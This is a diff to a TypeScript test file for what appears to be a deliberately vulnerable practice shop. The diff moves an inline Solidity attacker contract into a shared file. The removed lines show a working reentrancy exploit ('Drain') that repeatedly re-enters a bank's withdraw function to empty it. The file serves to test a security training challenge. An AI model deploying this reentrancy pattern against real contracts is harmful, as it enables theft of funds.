@@ -1,3 +1,5 @@
+import { readFileSync } from 'node:fs'
+import path from 'node:path'
 import solc from 'solc'
 import {
   createPublicClient,
@@ -11,6 +13,7 @@ import {
 } from 'viem'
 import { generatePrivateKey, privateKeyToAccount } from 'viem/accounts'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { appRoot } from '../../platform/paths.js'
 import { readJson, sendJson } from '../../test-support/http-helpers.js'
 import { startTestShop, type TestShop } from '../../test-support/test-shop.js'
 
@@ -21,23 +24,11 @@ interface Network {
   abis: { beeToken: Abi; beeFaucet: Abi; honeyPotNft: Abi; ethWalletBank: Abi }
 }
 
-/** The attacker contract of Wallet Depletion: deposits, then withdraws again from inside the bank's payment. */
-const ATTACKER_SOURCE = `
-// SPDX-License-Identifier: MIT
-pragma solidity ^0.8.20;
-interface IBank { function ethdeposit(address account) external payable; function withdraw(uint256 amount) external; }
-contract Drain {
-    IBank private immutable bank;
-    uint256 private rounds;
-    constructor(IBank target) { bank = target; }
-    function attack() external payable {
-        bank.ethdeposit{value: msg.value}(address(this));
-        bank.withdraw(msg.value);
-    }
-    receive() external payable {
-        if (rounds < 3) { rounds++; bank.withdraw(msg.value); }
-    }
-}`
+/** The attacker contract of Wallet Depletion, shared with the sandbox journey. */
+const ATTACKER_SOURCE = readFileSync(
+  path.join(appRoot, 'apps/server/src/test-support/contracts/Drain.sol'),
+  'utf8',
+)
 
 function compileAttacker(): { abi: Abi; bytecode: Hex } {
   const input = {
